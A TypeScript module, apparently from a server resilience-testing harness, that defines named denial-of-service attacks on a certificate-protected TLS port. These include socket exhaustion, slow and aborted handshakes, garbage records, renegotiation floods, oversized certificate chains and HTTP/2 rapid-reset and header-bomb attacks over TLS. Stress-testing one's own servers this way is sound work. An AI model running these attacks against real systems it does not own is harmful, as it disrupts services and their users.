import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { connect as connectPlain, type Socket } from 'node:net';
import { Duplex } from 'node:stream';
import { connect, type ConnectionOptions, type TLSSocket } from 'node:tls';
import { pause, type Attack, type Target, type TlsTarget } from './attack.ts';
import { ownAddress, type Answers } from './attack-connection.ts';
import { http2Attacks } from './http2-attacks.ts';

/** Sockets that an attacker has open at the same time, and how many he opens in a breath. */
const socketsMax = 400;
const breath = 10;
const breathMs = 5;

type Run = Parameters<Attack>[1];

function tlsOf({ tls }: Target): TlsTarget {
  if (tls === undefined) throw new Error('this attack needs a port with TLS');
  return tls;
}

/** Opens connections that do what `use` does, over and over; the oldest make room for the next. */
function sockets(use: (socket: Socket, run: Run) => void | Promise<void>): Attack {
  return async (target, run) => {
    const open = new Set<Socket>();
    const { port } = tlsOf(target);
    while (!run.isOver()) {
      for (let i = 0; i < breath; i++) {
        const socket = connectPlain({ host: target.host, port, ...ownAddress });
        socket.on('error', () => {}).resume();
        socket.once('end', () => run.answers.closed++);
        run.answers.connections++;
        open.add(socket);
        void use(socket, run);
        const [oldest] = open;
        if (open.size <= socketsMax || oldest === undefined) continue;
        oldest.destroy();
        open.delete(oldest);
      }
      await pause(breathMs);
    }
    for (const socket of open) socket.destroy();
  };
}

/** Handshakes to the end, eight at a time, with what `options` says, and then `use`. */
function handshakes(
  options: (tls: TlsTarget) => ConnectionOptions,
  use: (socket: TLSSocket, run: Run) => Promise<void> = async () => {},
): Attack {
  return async (target, run) => {
    const { port, ca, cert, key } = tlsOf(target);
    const shown: ConnectionOptions = { ca, cert, key, servername: 'localhost', ALPNProtocols: ['h2'] };
    const one = async (): Promise<void> => {
      while (!run.isOver()) {
        const socket = connect({
          ...{ host: target.host, port, ...ownAddress },
          ...shown,
          ...options(tlsOf(target)),
        });
        run.answers.connections++;
        if (await secured(socket, run.answers)) await use(socket, run);
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: 8 }, one));
  };
}

/** Whether the member let it in; one that it holds up is given up. */
async function secured(socket: TLSSocket, answers: Answers): Promise<boolean> {
  socket.on('error', () => {});
  return new Promise((resolve) => {
    socket.setTimeout(2_000, () => resolve(false));
    socket.once('secureConnect', () => {
      answers.answers++;
      resolve(true);
    });
    socket.once('close', () => {
      answers.closed++;
      resolve(false);
    });
  });
}

/** What a client says first: a ClientHello that is good for as many handshakes as anybody likes. */
async function clientHello(): Promise<Buffer> {
  let said: Buffer = Buffer.alloc(0);
  const listening = new Duplex({
    read: () => {},
    write: (chunk: Buffer, _encoding, done) => {
      said = Buffer.concat([said, chunk]);
      done();
      listening.emit('said');
    },
  });
  const socket = connect({ socket: listening, servername: 'localhost', ALPNProtocols: ['h2'] });
  socket.on('error', () => {});
  if (said.length === 0) await once(listening, 'said');
  socket.destroy();
  return said;
}

const hello = clientHello();
/** A record that says that a handshake of 512 bytes is in it. */
const garbageHead = Buffer.from([22, 3, 1, 2, 0]);

/** An attack on HTTP/2, by somebody with a certificate. */
function throughTls(name: string): [string, Attack] {
  const attack = http2Attacks[name];
  if (attack === undefined) throw new Error(`there is no attack "${name}"`);
  return [
    `${name}, through TLS`,
    (target, run) => attack({ ...target, port: tlsOf(target).port, through: tlsOf(target) }, run),
  ];
}

/** Attacks on a port with TLS that demands certificates, by name. */
export const tlsAttacks: Readonly<Record<string, Attack>> = {
  'connections without a byte': sockets(() => {}),
  'handshakes byte by byte': sockets(async (socket, { isOver }) => {
    for (const byte of await hello) {
      if (socket.destroyed || isOver()) return;
      socket.write(Buffer.from([byte]));
      await pause(20);
    }
  }),
  'handshakes that are half done': sockets(async (socket) => {
    socket.write(await hello);
  }),
  'handshakes that are broken off': sockets(async (socket) => {
    socket.write(await hello);
    socket.once('data', () => socket.destroy());
  }),
  'records of garbage': sockets((socket) => {
    socket.write(Buffer.concat([garbageHead, randomBytes(512)]));
  }),
  'garbage within a handshake': sockets(async (socket) => {
    socket.write(await hello);
    socket.once('data', () =>
      socket.write(Buffer.concat([Buffer.from([23, 3, 3, 64, 0]), randomBytes(16_384)])),
    );
  }),
  'handshakes without a request': handshakes(() => ({})),
  renegotiation: handshakes(
    () => ({ maxVersion: 'TLSv1.2' }),
    async (socket, { isOver }) => {
      for (let i = 0; i < 20 && !isOver() && !socket.destroyed; i++) {
        await new Promise<void>((resolve) => {
          socket.once('close', resolve);
          if (socket.renegotiate({ rejectUnauthorized: false }, () => resolve()) === false) resolve();
          // A member that does not even answer is left alone only when it is over.
          const look = setInterval(() => {
            if (!isOver() && !socket.destroyed) return;
            clearInterval(look);
            resolve();
          }, 20);
        });
      }
    },
  ),
  'no certificate': handshakes(() => ({ cert: undefined, key: undefined })),
  'certificates of strangers': handshakes(({ stranger }) => stranger),
  'clients that do not trust the member': handshakes(() => ({ ca: [] })),
  'chains of a hundred certificates': handshakes(({ cert, ca }) => ({ cert: cert + ca.repeat(100) })),
  'chains of a thousand certificates': handshakes(({ cert, ca }) => ({ cert: cert + ca.repeat(1_000) })),
  ...Object.fromEntries(['rapid reset', 'header bomb', 'oversize metadata'].map(throughTls)),
};
